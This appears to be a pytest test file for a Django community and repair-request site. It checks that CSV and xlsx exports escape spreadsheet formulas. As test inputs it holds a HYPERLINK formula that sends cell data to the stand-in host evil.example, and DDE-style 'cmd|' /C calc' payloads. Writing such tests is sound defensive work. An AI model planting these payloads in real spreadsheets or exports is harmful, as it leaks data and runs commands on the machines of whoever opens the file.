"""No formula injection through the spreadsheets the product writes: the public CSV of
communities and every admin export (CSV and xlsx), a repair request filed through Open311
included. Text a spreadsheet program would run starts with ``'``; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.text import capfirst

from communities.core.exports import neutralise
from communities.places.models import Community
from communities.repairs import services
from communities.repairs.models import RepairRequest
from tests.support.factories import make_community

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
XLSX_FORMAT, CSV_FORMAT = "0", "1"  # IMPORT_EXPORT_FORMATS: xlsx, csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),  # full-width, which some spreadsheet programs also run
        ("乐园小区", "乐园小区"),
        ("a=b", "a=b"),
        ("", ""),
        ("-12.5", "-12.5"),  # a negative number written as text is still a number
        ("+3", "+3"),
        ("-1,234.50", "-1,234.50"),
        (-12, -12),
        (Decimal("-3.50"), Decimal("-3.50")),
        (None, None),
    ],
)
def test_neutralise_prefixes_only_text_that_would_run(value, written):
    assert neutralise(value) == written


@pytest.fixture
def evil_community():
    return make_community(name=EVIL, address="@SUM(1+1)", validate=False)


def _csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_rows(content: bytes) -> tuple[list[str], list[list]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows())
    return [cell.value for cell in header], rows


def _column(model, name: str) -> str:
    """An admin export's header for a field: its name in the user's language."""
    return str(capfirst(model._meta.get_field(name).verbose_name))


def _admin_export(client, model: str, file_format: str):
    """The admin's export as a staff member uses it: the form, every field ticked, posted."""
    url = reverse(f"admin:communities_{model}_export")
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": file_format, "resource": "0"}
    data.update(
        {name: "on" for name, field in form.fields.items() if isinstance(field, forms.BooleanField)}
    )
    response = client.post(url, data)
    assert response.status_code == 200
    return response


# --- The public CSV -------------------------------------------------------------------------------


def test_the_public_csv_writes_a_formula_as_text(anonymous_client, evil_community):
    response = anonymous_client.get(reverse("site:community-export"))

    assert response.status_code == 200
    (row,) = _csv_rows(b"".join(response.streaming_content))
    assert row["name"] == "'" + EVIL
    assert row["address"] == "'@SUM(1+1)"
    assert row["longitude"] == "117.120000"
    assert row["households"] == "100"
    assert row["subdistrict"] == "岱庙街道"


# --- The admin's exports --------------------------------------------------------------------------


def test_the_admin_csv_export_writes_a_formula_as_text(staff_client, evil_community):
    response = _admin_export(staff_client, "community", CSV_FORMAT)

    (row,) = _csv_rows(response.content)
    assert row[_column(Community, "name")] == "'" + EVIL
    assert row[_column(Community, "address")] == "'@SUM(1+1)"
    assert row[_column(Community, "longitude")] == "117.120000"
    assert row[_column(Community, "households")] == "100"


def test_the_admin_xlsx_export_writes_a_formula_as_text(staff_client, evil_community):
    response = _admin_export(staff_client, "community", XLSX_FORMAT)

    header, (row,) = _xlsx_rows(response.content)
    cells = dict(zip(header, row, strict=True))
    assert cells[_column(Community, "name")].data_type == "s"
    assert cells[_column(Community, "name")].value == "'" + EVIL
    assert cells[_column(Community, "address")].value == "'@SUM(1+1)"
    assert (
        cells[_column(Community, "households")].data_type,
        cells[_column(Community, "households")].value,
    ) == ("n", 100)
    assert cells[_column(Community, "longitude")].data_type == "n"
    assert cells[_column(Community, "longitude")].value == pytest.approx(117.12)
    assert not any(cell.data_type == "f" for cell in row)


def test_the_import_still_reads_what_people_type(staff_client):
    """Neutralising is for what is written out: an import keeps its values as they are."""
    district = make_community().district
    content = f"id,name,district,households\n,-甲小区,{district.code},80\n".encode()
    upload = SimpleUploadedFile("communities.csv", content, content_type="text/csv")
    previewed = staff_client.post(
        reverse("admin:communities_community_import"),
        {"import_file": upload, "format": CSV_FORMAT, "resource": "0"},
    )
    assert previewed.status_code == 200
    form = previewed.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    staff_client.post(
        reverse("admin:communities_community_process_import"),
        {name: value for name, value in data.items() if value is not None},
    )
    assert Community.objects.filter(name="-甲小区").exists()


# --- A repair request filed through Open311 -------------------------------------------------------


@pytest.fixture
def filed_request(anonymous_client):
    """A resident's request as a hotline system files it, with a formula for a description."""
    community = make_community(name="乐园小区")
    _client, key = services.open311_client_create(name="12345热线", source="hotline_12345")
    response = anonymous_client.post(
        "/open311/v2/requests.json",
        {
            "api_key": key,
            "service_code": "plumbing",
            "address_id": str(community.pk),
            "description": EVIL,
            "first_name": "秘密",
            "last_name": "王",
            "phone": "13912345678",
        },
    )
    assert response.status_code == 201, response.content
    request = RepairRequest.objects.get()
    assert request.description == EVIL  # stored as the resident wrote it
    return request


def test_the_repair_request_csv_export_writes_a_formula_as_text(staff_client, filed_request):
    response = _admin_export(staff_client, "repairrequest", CSV_FORMAT)

    (row,) = _csv_rows(response.content)
    assert row[_column(RepairRequest, "description")] == "'" + EVIL
    assert row[_column(RepairRequest, "id")] == str(filed_request.pk)


def test_the_repair_request_xlsx_export_writes_a_formula_as_text(staff_client, filed_request):
    response = _admin_export(staff_client, "repairrequest", XLSX_FORMAT)

    header, (row,) = _xlsx_rows(response.content)
    cells = dict(zip(header, row, strict=True))
    assert cells[_column(RepairRequest, "description")].data_type == "s"
    assert cells[_column(RepairRequest, "description")].value == "'" + EVIL
    assert (
        cells[_column(RepairRequest, "id")].data_type,
        cells[_column(RepairRequest, "id")].value,
    ) == ("n", filed_request.pk)
    assert not any(cell.data_type == "f" for cell in row)
